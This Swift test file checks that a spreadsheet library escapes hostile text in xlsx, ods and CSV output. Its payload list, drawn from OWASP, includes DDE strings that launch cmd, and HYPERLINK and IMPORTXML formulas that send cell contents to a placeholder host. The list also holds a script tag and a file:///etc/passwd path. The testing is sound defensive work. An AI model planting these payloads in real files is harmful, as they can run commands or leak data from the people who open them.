import DigitalMaturity
import Foundation
import Spreadsheets
import TestSupport
import Testing

@testable import Loading

/// That a text from data is a text in every file that we write, whatever it looks like.
@Suite struct HostileTextTests {
    /// As attacks on spreadsheets begin (OWASP, "CSV Injection").
    static let attacks = [
        "=1+1", "=cmd|'/C calc'!A0", "=HYPERLINK(\"https://example.org/\"&A1,\"Click\")",
        "@SUM(1+1)",
        "+1+1", "-1+1", "-2+3+cmd|' /C calc'!D2", "=DDE(\"cmd\";\"/C calc\";\"x\")", "\t=1+1",
        "=IMPORTXML(CONCAT(\"https://example.org?v=\",A1),\"//a\")",
        "=WEBSERVICE(\"https://example.org\")",
        "javascript:alert(1)", "<script>alert(1)</script>", "file:///etc/passwd", "of:=1+1",
        "msoxl:=1+1",
        "'=1+1", "''=1+1", "＝1+1", "＠SUM(1)", "]]>",
        "</text:p><table:table-cell table:formula=\"of:=1\"/>",
        "\"><f>1+1</f>", "{=1+1}", "_x003D_1+1", "#REF!", "%0A=1+1", "-", "- a list",
        "+44 113 496 0000",
        // A mark after a quote or a comma makes one character with it.
        "\"\u{301},=1+1", "a,\u{301}\"\u{301}",
    ]

    private static func texts(_ count: Int) -> [String] {
        var random = SplitMix64(seed: 9)
        let parts =
            attacks + ["\"", "'", ",", ";", "\n", " ", "&", "<", ">", "A1", "=", "|", "é", "£6m"]
        return attacks
            + (0..<count).map { _ in
                (0...Int.random(in: 0...3, using: &random)).map { _ in
                    parts.randomElement(using: &random) ?? ""
                }.joined()
            }
    }

    @Test(arguments: ["xlsx", "ods"])
    func `no text becomes a formula in a workbook, and each comes back as it is`(form: String)
        throws
    {
        let texts = HostileTextTests.texts(400)
        let files = try (0..<2).map { _ in try written(texts, form) }
        #expect(files[0] == files[1], "the same workbook has the same bytes")
        var problems: [Diagnostic] = []
        let book = try #require(
            Workbook.readWithFormulas(bytes: files[0], file: "a.\(form)", &problems)
        )
        #expect(book.sheets.allSatisfy { $0.formulas.isEmpty })
        #expect(book.sheets.flatMap(\.cells).allSatisfy { !$0.isFormula })
        let kept = Set(
            book.sheets.flatMap(\.cells).compactMap { cell in
                if case .text(let text)? = cell.value { text } else { nil }
            }
        )
        let lost = texts.filter { !kept.contains($0) }
        #expect(lost.isEmpty, "\(lost.prefix(3))")
        #expect(texts.count == 432)
    }

    private func written(_ texts: [String], _ form: String) throws -> [UInt8] {
        var column = FilledSheet.Column(title: texts[0], help: texts[1])
        column.isInput = true
        var sheet = FilledSheet(name: "Texts", title: texts[2], help: texts[3])
        sheet.columns = [column]
        sheet.rows = texts.map { [.text($0)] }
        let book = FilledWorkbook(title: texts[4], date: "2026-05-01", sheets: [sheet])
        let path = NSTemporaryDirectory() + "hostile-\(UUID().uuidString).\(form)"
        defer { try? FileManager.default.removeItem(atPath: path) }
        if form == "ods" {
            try book.writeOpenDocument(at: path)
        } else {
            try book.writeWorkbook(at: path)
        }
        return [UInt8](try Data(contentsOf: URL(filePath: path)))
    }

    @Test
    func `no text begins a formula in a table of comma-separated values, and each comes back`() {
        let texts = HostileTextTests.texts(2000)
        let file = csvText([["text"]] + texts.map { [$0] })
        let table = CSVTable(scanning: Array(file.utf8))
        for text in texts {
            let field = plainText(text)
            let isGuarded = !field.unicodeScalars.prefix(1).contains {
                "=@\t＝＠".unicodeScalars.contains($0)
            }
            #expect(isGuarded, "\(text)")
            let read = CSVTable(scanning: Array(csvText([["a", "b"], [text, "x"]]).utf8))
            #expect(read.rows.isEmpty || read[0, 0]?.text == text, "\(text)")
        }
        #expect(table.rows.count > 2000)
    }

    @Test func `no text of a plan's tables begins a formula or ends its field`() throws {
        var column = FilledSheet.Column(title: "Text", help: "")
        column.isInput = true
        var sheet = FilledSheet(name: "Texts", title: "Texts", help: "")
        sheet.columns = [column]
        let texts = HostileTextTests.texts(400).filter { !$0.isEmpty }
        sheet.rows = texts.map { [.text($0)] }
        let book = FilledWorkbook(title: "Plan", date: "2026-05-01", sheets: [sheet])
        let file = try #require(book.tables.first?.text)
        let table = CSVTable(scanning: Array(file.utf8))
        #expect(table.rows.map { table[$0, 0]?.text } == texts)
        #expect(table.rows.allSatisfy { table.fieldCount(ofRow: $0) == 1 })
        #expect(texts.count > 400)
    }

    @Test(arguments: [
        ("-5", "-5"), ("+0.50", "+0.50"), ("-1,234.5", "-1,234.5"), ("-12.5%", "-12.5%"),
        ("-1e-07", "-1e-07"),
        ("-", "-"), ("+", "+"), ("", ""), ("a=1", "a=1"), ("-£5", "'-£5"), ("-1+1", "'-1+1"),
        ("-1e", "'-1e"), ("=1", "'=1"), ("'=1", "''=1"), ("'a", "'a"), ("-5%+1", "'-5%+1"),
    ]) func `numbers stay numbers, and what only looks like one does not`(
        text: String,
        expected: String
    ) {
        #expect(plainText(text) == expected)
    }
}
